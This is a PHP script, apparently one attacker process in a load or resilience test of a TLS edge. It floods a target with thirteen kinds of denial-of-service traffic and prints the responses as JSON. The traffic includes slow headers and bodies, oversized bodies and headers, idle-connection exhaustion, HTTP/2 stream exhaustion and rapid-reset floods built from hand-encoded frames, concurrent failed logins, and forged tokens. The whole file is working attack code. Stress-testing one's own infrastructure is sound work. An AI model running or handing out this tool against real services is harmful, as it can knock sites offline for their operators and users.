<?php
/*
 * One attacker: requests that an edge has to bear, by TLS, bounded in count and time. Prints how they were answered as JSON.
 *
 *   flood.php KIND ADDRESS PORT HOST PATH COUNT SECONDS
 *
 *   bodies       COUNT requests at once with a body of 11 MB each, as fast as they are taken
 *   slow-bodies  COUNT requests at once whose body comes by one byte a second
 *   slow-tokens  the same with a forged API token
 *   chunks       the same without a length
 *   slow-heads   COUNT requests at once whose headers come by one byte a second
 *   silent       COUNT connections by TCP that say nothing
 *   idle         COUNT connections by TLS that say nothing
 *   headers      COUNT requests at once, each with 900 KB of headers
 *   streams      COUNT connections by HTTP/2 with 100 streams each, each with 60 KB of headers and no end
 *   resets       COUNT connections by HTTP/2 on which streams are opened and reset for SECONDS
 *   tries        COUNT logins at once with a wrong password
 *   slow-tries   COUNT logins at once whose body arrives at one byte a second
 *   quick        COUNT requests one after the other without a body
 */
const MEGABYTE = 1000000;

[, $kind, $address, $port, $host, $path, $count, $seconds] = $argv;
$count = (int) $count;
$end = microtime(true) + (float) $seconds;
$answers = ['opened' => 0, 'refused' => 0, 'closed' => 0];

function tell(string $what, int $number = 1): void
{
    global $answers;
    $answers[$what] = ($answers[$what] ?? 0) + $number;
}

function open(string $scheme, array $protocols = ['http/1.1'])
{
    global $address, $port, $host;
    $options = ['peer_name' => $host, 'SNI_enabled' => true, 'verify_peer' => false, 'verify_peer_name' => false, 'alpn_protocols' => implode(',', $protocols)];
    $socket = @stream_socket_client("$scheme://$address:$port", $code, $message, 5, STREAM_CLIENT_CONNECT, stream_context_create(['ssl' => $options]));
    tell($socket === false ? 'refused' : 'opened');
    if ($socket !== false) {
        stream_set_blocking($socket, false);
    }
    return $socket;
}

function head(string $method, array $headers): string
{
    global $host, $path;
    $lines = ["$method $path HTTP/1.1", "Host: $host", 'Accept: text/html', 'User-Agent: flood', 'Connection: close', ...$headers];
    return implode("\r\n", $lines) . "\r\n\r\n";
}

/**
 * Sends what each connection has to send, until all were answered or time is up: the first $quick bytes at once, and one more each second;
 * all of it as fast as it is taken where $quick is not given.
 */
function send(array $texts, string $scheme = 'tls', array $protocols = ['http/1.1'], ?int $quick = null): void
{
    global $end;
    $open = [];
    foreach ($texts as $text) {
        $socket = open($scheme, $protocols);
        if ($socket !== false) {
            $open[] = ['socket' => $socket, 'text' => $text, 'sent' => 0, 'read' => ''];
        }
    }
    $next = 0;
    while ($open !== [] && microtime(true) < $end) {
        $mayWrite = microtime(true) >= $next;
        if ($mayWrite) {
            $next = microtime(true) + ($quick === null ? 0 : 1);
        }
        $read = array_column($open, 'socket');
        $write = null;
        $except = null;
        @stream_select($read, $write, $except, 0, 20000);
        foreach ($open as $number => &$one) {
            $piece = @fread($one['socket'], 65536);
            $one['read'] .= strlen($one['read']) < 4096 ? (string) $piece : '';
            $left = strlen($one['text']) - $one['sent'];
            if ($mayWrite && $left > 0) {
                $written = @fwrite($one['socket'], substr($one['text'], $one['sent'], $quick === null ? 65536 : ($one['sent'] < $quick ? $quick : 1)));
                $one['sent'] += (int) $written;
            }
            if (feof($one['socket']) || (isset($written) && $written === false)) {
                if (!str_starts_with($one['read'], 'HTTP/1')) {
                    tell('closed');
                } else {
                    tell(substr($one['read'], 9, 3));
                }
                fclose($one['socket']);
                unset($open[$number]);
            }
            unset($written);
        }
        unset($one);
    }
    foreach ($open as $one) {
        tell(preg_match('/^HTTP\/1.. (\d{3})/', $one['read'], $found) ? $found[1] : 'held');
    }
}

/** A frame of HTTP/2. */
function frame(int $type, int $flags, int $stream, string $payload): string
{
    return substr(pack('N', strlen($payload)), 1) . chr($type) . chr($flags) . pack('N', $stream) . $payload;
}

/** Fields by HPACK, literal and not indexed. */
function fields(array $fields): string
{
    $text = '';
    foreach ($fields as $name => $value) {
        $text .= "\0" . length(strlen($name)) . $name . length(strlen($value)) . $value;
    }
    return $text;
}

function length(int $number): string
{
    if ($number < 127) {
        return chr($number);
    }
    $text = chr(127);
    for ($number -= 127; $number >= 128; $number >>= 7) {
        $text .= chr($number & 127 | 128);
    }
    return $text . chr($number);
}

/** A request, as frames, whose headers are $bytes more than usual. */
function request2(int $stream, string $method, int $bytes = 0, bool $ends = true): string
{
    global $host, $path;
    $block = fields([':method' => $method, ':scheme' => 'https', ':authority' => $host, ':path' => $path, 'accept' => 'text/html'] + ($bytes ? ['x-padding' => str_repeat('x', $bytes)] : []));
    $pieces = str_split($block, 16000);
    $frames = '';
    foreach ($pieces as $number => $piece) {
        $flags = ($number === 0 && $ends ? 1 : 0) | ($number === count($pieces) - 1 ? 4 : 0);
        $frames .= frame($number === 0 ? 1 : 9, $flags, $stream, $piece);
    }
    return $frames;
}

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/** Opens streams and resets them at once, for as long as connections and time last. */
function resets(int $count): void
{
    global $end;
    $open = [];
    for ($number = 0; $number < $count; $number++) {
        $socket = open('tls', ['h2']);
        if ($socket !== false) {
            fwrite($socket, PREFACE . frame(4, 0, 0, ''));
            $open[] = ['socket' => $socket, 'stream' => 1];
        }
    }
    while ($open !== [] && microtime(true) < $end) {
        foreach ($open as $number => &$one) {
            @fread($one['socket'], 65536);
            $frames = '';
            for ($more = 0; $more < 50; $more++, $one['stream'] += 2) {
                $frames .= request2($one['stream'], 'GET') . frame(3, 0, $one['stream'], pack('N', 8));
            }
            $written = @fwrite($one['socket'], $frames);
            tell('resets', (int) ((int) $written / (strlen($frames) / 50)));
            // a frame that was sent in part would end the connection for another reason
            if ($written !== strlen($frames) || feof($one['socket'])) {
                tell('closed');
                fclose($one['socket']);
                $again = open('tls', ['h2']);
                if ($again === false) {
                    unset($open[$number]);
                    continue;
                }
                fwrite($again, PREFACE . frame(4, 0, 0, ''));
                $one = ['socket' => $again, 'stream' => 1];
            }
        }
        unset($one);
        usleep(10000);
    }
}

function quick(int $count): void
{
    global $end;
    for ($number = 0; $number < $count && microtime(true) < $end; $number++) {
        send([head('GET', [])]);
    }
}

$login = json_encode(['username' => 'victim', 'password' => 'wrong', 'keepMeLoggedIn' => false]);
$try = head('POST', ['Content-Type: application/json', 'Content-Length: ' . strlen($login)]);
$large = head('POST', ['Content-Type: application/octet-stream', 'Content-Length: ' . 11 * MEGABYTE]);
match ($kind) {
    'bodies' => send(array_fill(0, $count, $large . str_repeat('x', 11 * MEGABYTE))),
    'slow-bodies' => send(array_fill(0, $count, $large . str_repeat('x', 60000)), quick: strlen($large) + 1),
    'slow-tokens' => send(array_fill(0, $count, str_replace("\r\n\r\n", "\r\nAuthorization: Token made:up\r\n\r\n", $large) . str_repeat('x', 70000)), quick: strlen($large) + 66000),
    'chunks' => send(array_fill(0, $count, head('POST', ['Transfer-Encoding: chunked']) . str_repeat("1\r\nx\r\n", 1000)), quick: 200),
    'slow-heads' => send(array_fill(0, $count, "GET $path HTTP/1.1\r\nHost: $host\r\nX-Slow: " . str_repeat('x', 60000)), quick: 1),
    'silent' => send(array_fill(0, $count, ''), 'tcp'),
    'idle' => send(array_fill(0, $count, '')),
    'headers' => send(array_fill(0, $count, head('GET', ['X-Padding: ' . str_repeat('x', 900000)]))),
    'streams' => send(array_fill(0, $count, PREFACE . frame(4, 0, 0, '') . implode('', array_map(fn ($n) => request2(2 * $n + 1, 'POST', 60000, false), range(0, 99)))), 'tls', ['h2']),
    'resets' => resets($count),
    'tries' => send(array_fill(0, $count, $try . $login)),
    'slow-tries' => send(array_fill(0, $count, $try . $login), quick: strlen($try) + 1),
    'quick' => quick($count),
};
echo json_encode(array_filter($answers)), "\n";
